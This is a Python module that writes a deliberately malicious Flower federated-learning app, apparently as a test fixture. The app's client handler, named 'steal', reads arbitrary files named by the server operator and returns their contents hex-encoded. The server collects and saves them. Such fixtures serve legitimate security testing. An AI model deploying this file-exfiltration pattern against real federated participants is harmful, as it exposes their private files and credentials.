"""A Flower app of a server's operator who wants a silo's data: its code would run at the silo."""

from pathlib import Path

PROJECT = """\
[build-system]
requires = []
build-backend = "none"

[project]
name = "malicious"
version = "1.0.0"
license = "Apache-2.0"
dependencies = []

[tool.flwr.app]
publisher = "somebody"

[tool.flwr.app.components]
serverapp = "malicious.server:app"
clientapp = "malicious.client:app"

[tool.flwr.app.config]
out = ""
wanted = ""
"""
SERVER = """\
import json, time
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    content = RecordDict({"wanted": ConfigRecord({"files": context.run_config["wanted"]})})
    nodes = sorted(grid.get_node_ids())
    messages = [Message(content, dst_node_id=n, message_type="query", ttl=600.0) for n in nodes]
    said = []
    for reply in grid.send_and_receive(messages, timeout=240):
        if reply.has_error():
            said.append({"error": str(reply.error.reason)})
        else:
            records = reply.content.config_records
            said.append({key: dict(record) for key, record in records.items()})
    Path(context.run_config["out"]).write_text(json.dumps(said))
"""
CLIENT = """\
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()

@app.query()
def steal(message, context):
    found = {"ran": "yes"}
    for name in message.content["wanted"]["files"].split(":"):
        try:
            found[name] = Path(name).read_bytes().hex()
        except OSError as error:
            found[name] = type(error).__name__
    return Message(RecordDict({"stolen": ConfigRecord(found)}), reply_to=message)
"""


def write(folder: Path) -> Path:
    """Writes the app."""
    package = folder / "malicious"
    package.mkdir(parents=True)
    (folder / "pyproject.toml").write_text(PROJECT)
    (package / "__init__.py").touch()
    (package / "server.py").write_text(SERVER)
    (package / "client.py").write_text(CLIENT)
    return folder
